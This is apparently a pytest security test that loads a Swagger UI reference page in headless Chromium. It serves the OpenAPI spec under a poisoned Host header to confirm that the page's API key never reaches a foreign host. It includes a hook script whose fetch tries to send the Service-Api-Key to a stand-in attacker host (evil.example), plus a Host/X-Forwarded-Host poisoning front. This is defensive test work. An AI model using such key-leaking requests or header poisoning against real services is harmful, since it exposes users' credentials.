"""The reference page cannot be turned against its reader by a foreign ``Host``.

A shared cache or a proxy may fetch ``/openapi.json`` with a ``Host`` (or ``X-Forwarded-*``)
chosen by someone else. Were ``servers`` taken from those headers, Swagger UI's "Try it out"
would send the reader's ``Service-Api-Key`` to that someone's host. Here headless Chromium loads
``/docs`` from 127.0.0.1 while the spec fetch carries ``Host: evil.example:<port>`` (Chromium
resolves ``evil.example`` to 127.0.0.1, where a second listener stands in for the attacker),
clicks "Try it out" and "Execute", and also tries a direct cross-origin ``fetch``: the attacker
receives nothing, and the same-origin call is answered.
"""

from __future__ import annotations

import html
import json
import re
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx2
import pytest

from .support import DEMO_KEY, chromium, dump_dom, mock_app, serving

#: The foreign host the poisoned spec fetch names; Chromium maps it to 127.0.0.1.
EVIL = "evil.example"
HOOK_PATH = "/test-hook.js"
#: The page's script that the hook clicks through (a real user's steps, by DOM events).
HOOK_JS = """(function () {
  var out = {violations: []};
  document.addEventListener("securitypolicyviolation", function (e) {
    out.violations.push(e.violatedDirective + " " + e.blockedURI);
  });
  var reported = false;
  function report() {
    if (reported) { return; }
    reported = true;
    var pre = document.createElement("pre");
    pre.id = "hook-result";
    pre.textContent = JSON.stringify(out);
    document.body.appendChild(pre);
  }
  // A step that throws reports the error rather than ending the chain unseen.
  function when(test, then, left) {
    var ok = false;
    try { ok = test(); } catch (e) { ok = false; }
    if (ok) {
      try {
        return then();
      } catch (e) {
        out.error = (out.step || "start") + ": " + e;
        return report();
      }
    }
    if (left <= 0) { out.timeout = out.step || "start"; return report(); }
    setTimeout(function () { when(test, then, left - 1); }, 100);
  }
  // The last word, whatever happened: the page never ends without a result.
  setTimeout(function () {
    out.timeout = out.timeout || "unfinished at " + (out.step || "start");
    report();
  }, 100000);
  // "Execute" is done when the request and its answer are both in Swagger UI's state.
  function answered() {
    var responses = window.ui.specSelectors.responses().toJS();
    var requests = window.ui.specSelectors.requests().toJS();
    for (var path in responses) {
      var response = responses[path].post, request = requests[path] && requests[path].post;
      if (response && response.status && request && request.url) {
        out.status = response.status;
        out.url = request.url;
        return true;
      }
    }
    return false;
  }
  function block() { return document.querySelector(".opblock"); }
  function direct() {
    out.step = "direct";
    fetch(ATTACKER + "/api/mcp/list_rum_environments", {
      method: "POST", headers: {"Service-Api-Key": KEY, "Content-Type": "application/json"},
      body: "{}"
    }).then(function (r) { out.direct = "answered " + r.status; report(); },
            function (e) {
              out.direct = "refused " + e;
              // The CSP's report event may come a task after the refusal.
              when(function () { return out.violations.length > 0; }, report, 20);
            });
  }
  window.addEventListener("load", function () {
    // The operation's block renders before its "Try it out" button: wait for the button.
    when(function () { return window.ui && block().querySelector(".try-out__btn"); }, function () {
      out.step = "try it out";
      window.ui.preauthorizeApiKey("ServiceApiKey", KEY);
      block().querySelector(".try-out__btn").click();
      when(function () { return block().querySelector("button.execute"); }, function () {
        out.step = "execute";
        block().querySelector("button.execute").click();
        when(answered, direct, 300);
      }, 200);
    }, 300);
  });
})();
"""


class _Attacker:
    """A 127.0.0.1 listener standing in for the foreign host: records every request, and
    answers each, CORS preflight included, as generously as an attacker would."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        lock = threading.Lock()
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            timeout = 5

            def _answer(self) -> None:
                with lock:
                    seen.append(f"{self.command} {self.path} {dict(self.headers)}")
                self.send_response(200)
                for name, value in (
                    ("Access-Control-Allow-Origin", "*"),
                    ("Access-Control-Allow-Headers", "*"),
                    ("Access-Control-Allow-Methods", "*"),
                    ("Content-Type", "application/json"),
                    ("Content-Length", "2"),
                ):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST = do_OPTIONS = _answer

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]


@contextmanager
def attacker() -> Iterator[_Attacker]:
    """A running :class:`_Attacker`, shut down on exit."""
    evil = _Attacker()
    thread = threading.Thread(target=evil.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield evil
    finally:
        evil.server.shutdown()
        evil.server.server_close()
        thread.join(timeout=10)


def foreign_host_front(app: Any, host: str) -> Any:
    """`app` behind a front that models a poisoned cache or proxy: ``GET /openapi.json``
    reaches the app with ``Host: <host>`` and ``X-Forwarded-Host``/``-Proto``, ``/docs`` gets
    the test hook's ``<script>`` (same origin, so the page's own CSP admits it), and
    :data:`HOOK_PATH` serves the hook."""
    hook = HOOK_JS.replace("ATTACKER", json.dumps(f"http://{host}")).replace(
        "KEY", json.dumps(DEMO_KEY)
    )

    async def front(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            await app(scope, receive, send)
            return
        if scope["path"] == HOOK_PATH:
            body = hook.encode()
            await send(
                {
                    "type": "http.response.start",
                    "status": 200,
                    "headers": [
                        (b"content-type", b"text/javascript"),
                        (b"content-length", str(len(body)).encode()),
                    ],
                }
            )
            await send({"type": "http.response.body", "body": body})
            return
        if scope["path"] == "/openapi.json":
            kept = [(k, v) for k, v in scope["headers"] if not k.startswith((b"host", b"x-forw"))]
            foreign = [
                (b"host", host.encode()),
                (b"x-forwarded-host", host.encode()),
                (b"x-forwarded-proto", b"http"),
            ]
            await app(dict(scope, headers=kept + foreign), receive, send)
            return
        if scope["path"] != "/docs":
            await app(scope, receive, send)
            return
        start: dict[str, Any] = {}
        chunks: list[bytes] = []

        async def keep(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                start.update(message)
                return
            chunks.append(message.get("body", b""))
            if message.get("more_body"):
                return
            page = b"".join(chunks).replace(
                b"</body>", f'<script src="{HOOK_PATH}"></script></body>'.encode()
            )
            headers = [(k, v) for k, v in start["headers"] if k != b"content-length"]
            headers.append((b"content-length", str(len(page)).encode()))
            await send(dict(start, headers=headers))
            await send({"type": "http.response.body", "body": page})

        await app(scope, receive, keep)

    return front


def _result(dom: str) -> dict[str, Any]:
    found = re.search(r'<pre id="hook-result">([^<]*)</pre>', dom)
    assert found, dom[-3000:]
    result: dict[str, Any] = json.loads(html.unescape(found.group(1)))
    return result


@pytest.mark.slow
def test_try_it_out_with_a_spec_fetched_under_a_foreign_host_stays_on_the_page_origin() -> None:
    chromium()  # fails, never skips, when Chromium is missing
    with (
        attacker() as evil,
        serving(foreign_host_front(mock_app(), f"{EVIL}:{evil.port}")) as base_url,
        tempfile.TemporaryDirectory() as profile,
    ):
        # The front does what it should: the spec fetch carries the foreign Host.
        assert httpx2.get(f"{base_url}{HOOK_PATH}", timeout=10).status_code == 200
        # The hook's waits add up to 80 s of virtual time, under this budget, so it always
        # reports (an outcome or the step that timed out) before Chromium dumps the DOM.
        result = dump_dom(
            f"{base_url}/docs",
            profile,
            budget_ms=120000,
            flags=[f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"],
        )
        assert result.returncode == 0, result.stderr[-2000:]
        seen = list(evil.seen)
    outcome = _result(result.stdout)
    assert "timeout" not in outcome and "error" not in outcome, outcome
    # Not one request, preflight included, reached the foreign host: the key never left.
    assert seen == [], (seen, outcome)
    # "Execute" called the page's own origin, with the key, and was answered.
    assert outcome["url"].startswith(f"{base_url}/api/mcp/"), outcome
    assert outcome["status"] == 200, outcome
    # A script that tries the foreign host directly is stopped by the page's CSP.
    assert outcome["direct"].startswith("refused"), outcome
    assert any(v.startswith("connect-src") and EVIL in v for v in outcome["violations"]), outcome
